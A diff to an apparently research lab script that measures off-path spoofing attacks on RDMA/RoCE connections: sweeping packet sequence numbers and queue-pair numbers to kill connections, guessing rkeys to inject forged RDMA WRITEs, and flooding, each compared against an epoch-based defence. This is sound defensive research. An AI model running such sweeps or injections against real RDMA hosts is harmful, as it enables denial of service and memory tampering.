@@ -1,12 +1,12 @@
 #!/usr/bin/python3
 # SPDX-License-Identifier: Apache-2.0
-"""Off-path forging by trying all numbers: what a sweep costs, and what the victim does meanwhile.
+"""Off-path forging with all possible numbers: what such a sweep costs, and what the victim does meanwhile.
 
-A wrong PSN is dropped in silence, so all 2^24 can be tried. A wrong rkey is not: it ends the connection."""
+The device drops a wrong PSN silently, so an attacker can try all 2^24. A wrong rkey ends the connection."""
 import time
 
 import lab as rig
-from lab import PSNS, after, seen_packet, uroce_counters
+from lab import PSNS, after, uroce_counters
 
 ARGUMENTS = rig.options(__doc__, {"--rate": {"type": int, "default": 500000, "help": "packets a second that the victim can take in"}})
 LAB = rig.Lab(ARGUMENTS)
@@ -28,11 +28,8 @@ def taken_in(server):
 
 def rates():
     """What the attacker can send, and what the victim's device can take in."""
-    server, client, at, _ = LAB.victims("--random-psn")
-    client.say("send 0 genuine")
-    server.must("message")
+    server, client, at, _ = LAB.talking_victims("--random-psn")
     count = 20000 if LAB.rxe else 1000000 if LAB.short else 8000000
-    found = {}
     for what, words in (("another PSN", ["--qpn", at["qpn"], "--psn", f"{after(at['peer_psn'], 1000)}+{min(count, PSNS // 4)}"]),
                         ("another QPN", ["--qpn", at["qpn"] ^ 1, "--psn", f"0+{count}"])):
         before, began = taken_in(server), time.monotonic()
@@ -40,13 +37,12 @@ def rates():
         time.sleep(0.3)
         taken = taken_in(server) - before
         elapsed = time.monotonic() - began - 0.3
-        found[what] = sent["packets"] / sent["seconds"], taken / max(elapsed, 0.001)
+        rate, intake = sent["packets"] / sent["seconds"] / 1e6, taken / max(elapsed, 0.001) / 1e6
         good = client_is_well(server, client)
         LAB.report("flood of forged packets", "off-path, spoofs", "addresses, QPN", "plain verbs", "random PSN",
-                   f"writes to {what}: sent {found[what][0] / 1e6:.2f} million/s, taken in {found[what][1] / 1e6:.2f} million/s "
+                   f"writes to {what}: sent {rate:.2f} million/s, taken in {intake:.2f} million/s "
                    f"({100 * taken / sent['packets']:.0f} %). Does the connection end?", "failed", not good, **sent)
     LAB.clear()
-    return found
 
 
 def client_is_well(server, client):
@@ -70,27 +66,19 @@ def blind(width, words, defence, expected, victims):
             hit = True
             break
     known = "QPN" if width == PSNS else f"QPN and {24 - width.bit_length() + 1} bits of the PSN"
-    LAB.report(NAME, "off-path, spoofs", known, at["victim"], defence, f"bad RDMA WRITEs with {'all' if width == PSNS else width} PSNs at "
-               f"{RATE}/s, until the connection ends", expected, hit, packets=packets, seconds=seconds,
-               note=f"the right one was the {at['expected'] - first + 1:,}th")
-    LAB.clear()
-    return packets, seconds
+    LAB.conclude(NAME, "off-path, spoofs", known, at["victim"], defence, f"bad RDMA WRITEs with {'all' if width == PSNS else width} PSNs at "
+                 f"{RATE}/s, until the connection ends", expected, hit, packets=packets, seconds=seconds,
+                 note=f"the right one was the {at['expected'] - first + 1:,}th")
 
 
 def plain(words):
-    server, client, at, _ = LAB.victims(*words)
-    client.say("send 0 genuine")
-    server.must("message")
+    server, client, at, _ = LAB.talking_victims(*words)
     at |= {"expected": after(at["peer_psn"]), "victim": "plain verbs"}
     return server, at, lambda wait: server.event("broken", wait) is not None
 
 
 def securdma(words):
-    server = LAB.serve(*words)
-    sniffer = LAB.sniff()
-    client = LAB.connect(server, *words)
-    client.ask("send genuine")
-    seen = seen_packet(sniffer, rig.SEND_ONLY_IMM)
+    server, sniffer, client, seen = LAB.observed(*words)
     sniffer.stop()
 
     def ended(_):
@@ -101,27 +89,24 @@ def securdma(words):
 
 
 def qpn_range(words, defence, expected):
-    """The QPN is not known either, but where the device has them: all of that range, each with the few PSNs that somebody who starts at 0 can
-    have come to."""
-    server, client, at, _ = LAB.victims(*words)
-    client.say("send 0 genuine")
-    server.must("message")
+    """The attacker knows only the range of the device's QPNs: tries all of them, each with the few PSNs that a program that starts at 0 can
+    have reached."""
+    server, client, at, _ = LAB.talking_victims(*words)
     first = at["qpn"] & ~(QPNS - 1)
     packets, seconds, hit = 0, 0.0, False
-    for _ in range(PASSES if expected == "succeeded" else 1):  # the victim may not take all in
+    for _ in range(PASSES if expected == "succeeded" else 1):  # the victim may lose some
         sent = LAB.spoof(*BAD_WRITE, "--qpn", f"{first}+{QPNS}", "--psn", "0+4", "--rate", RATE)
         packets, seconds = packets + sent["packets"], seconds + sent["seconds"]
         hit = server.event("broken", 1) is not None
         if hit:
             break
-    LAB.report("A2 kill the queue pair", "off-path, spoofs", f"the {QPNS:,} QPNs among which the right one is", "plain verbs", defence,
-               f"bad RDMA WRITEs to all of them, with the PSNs 0 to 3, at {RATE}/s", expected, hit, packets=packets, seconds=seconds,
-               note=f"the right one was the {at['qpn'] - first + 1:,}th")
-    LAB.clear()
+    LAB.conclude("A2 kill the queue pair", "off-path, spoofs", f"the {QPNS:,} QPNs among which the right one is", "plain verbs", defence,
+                 f"bad RDMA WRITEs to all of them, with the PSNs 0 to 3, at {RATE}/s", expected, hit, packets=packets, seconds=seconds,
+                 note=f"the right one was the {at['qpn'] - first + 1:,}th")
 
 
 def rkey_guesses(count):
-    """All is known but the rkey, and the victim connects again after each wrong guess, which has ended its connection."""
+    """The attacker knows all but the rkey. The victim connects again after each wrong guess, which has ended its connection."""
     server, client, at, _ = LAB.victims()
     killed, hit, packets, began = 0, False, 0, time.monotonic()
     for guess in range(count):
@@ -129,62 +114,23 @@ def rkey_guesses(count):
                          "--text", "FORGED!")
         packets += sent["packets"]
         killed += server.event("broken", 3) is not None
-        server.say("region 0")
-        hit = hit or server.must("region")["text"].startswith("FORGED!")
+        hit = hit or server.do("region 0", "region")["text"].startswith("FORGED!")
         client.say("again")
         at = server.must("connected")
-    LAB.report("A1 injection", "off-path, spoofs", "QPN, address, not the rkey", "plain verbs", "PSN 0; random rkey", f"RDMA WRITEs with {count} guessed "
-               "rkeys, the victim connecting again each time", "failed", hit or killed != count, packets=packets, seconds=time.monotonic() - began,
-               note=f"{killed} guesses ended as many connections")
-    LAB.clear()
+    LAB.conclude("A1 injection", "off-path, spoofs", "QPN, address, not the rkey", "plain verbs", "PSN 0; random rkey", f"RDMA WRITEs with {count} guessed "
+                 "rkeys, the victim connecting again each time", "failed", hit or killed != count, packets=packets, seconds=time.monotonic() - began,
+                 note=f"{killed} guesses ended as many connections")
 
 
-def rkey_guess():
-    """Who knows the PSN has one guess at the rkey for each connection."""
-    server, client, at, _ = LAB.victims("--random-psn")
-    client.say("send 0 genuine")
-    server.must("message")
-    sent = LAB.spoof("--op", "write", "--qpn", at["qpn"], "--psn", after(at["peer_psn"]), "--rkey", (at["rkey"] ^ 0x5a5a5a5a) & 0xffffffff, "--va",
-                     at["va"], "--text", "FORGED!")
-    server.event("broken", 2)
-    server.say("region 0")
-    region = server.must("region")["text"]
-    LAB.report("A1 injection", "on-path, sees", "PSN, QPN, address, not the rkey", "plain verbs", "random rkey",
-               "an RDMA WRITE with a guessed rkey: the wrong guess ends the connection", "failed", region.startswith("FORGED!"), **sent)
-    LAB.clear()
-
-
-def extrapolate(found, swept):
-    """Worked out, not tried: told as a note, not as a result."""
-    pps = found["another PSN"][1]
-    if pps <= 0:
-        return
-    print(f"# all PSNs of a known QPN at the {pps / 1e6:.2f} million/s that the victim takes in: {PSNS / pps:.0f} s, half of it on average")
-    if not LAB.rxe:
-        days = PSNS / pps * 2 ** QPN_BITS / 86400
-        print(f"# QPN unknown as well, one of a process's 2^{QPN_BITS}, drawn at random by uroce: 2^{QPN_BITS} times as long, {days:.1f} days; with N "
-              "connections between the same two addresses 1/N of it until the first ends. Most NICs number in order: no such factor there")
-        print("# rkey unknown as well: each guess costs a connection, 2^31 of them on average with uroce's 32 random bits")
-    if swept[1]:
-        print(f"# swept: {swept[0]} packets in {swept[1]:.1f} s")
-
-
-found_rates = rates()
+rates()
 if LAB.rxe:
-    swept_plain = blind(1 << 12, ("--random-psn",), "random PSN", "succeeded", plain)
+    blind(1 << 12, ("--random-psn",), "random PSN", "succeeded", plain)
 else:
     WIDTH = 1 << 16 if LAB.short else PSNS
-    swept_plain = blind(WIDTH, ("--random-psn",), "random PSN", "succeeded", plain)
-    if LAB.has("--epoch-psns"):
-        blind(WIDTH, ("--epoch-psns", "0", "--recoveries", "0"), "random PSN; no epochs", "succeeded", securdma)
-        blind(WIDTH, (), "epochs: renewed when a sweep is noticed, or after the kill", "failed", securdma)
-    else:
-        blind(WIDTH, (), "random PSN; no epochs", "succeeded", securdma)
-        LAB.report(NAME, "off-path, spoofs", "QPN", "securdma", "epochs: renewed when a sweep is noticed, or after the kill",
-                   "bad RDMA WRITEs with all PSNs", "failed", None, note="this build has no epochs")
+    blind(WIDTH, ("--random-psn",), "random PSN", "succeeded", plain)
+    blind(WIDTH, ("--epoch-psns", "0", "--recoveries", "0"), "random PSN; no epochs", "succeeded", securdma)
+    blind(WIDTH, (), "epochs: new PSNs when the library notices a sweep, and after the kill", "failed", securdma)
 qpn_range((), "none: PSN 0", "succeeded")
 qpn_range(("--random-psn",), "random PSN", "failed")
-rkey_guess()
 rkey_guesses(20 if LAB.short else 500)
-extrapolate(found_rates, swept_plain)
 LAB.end()
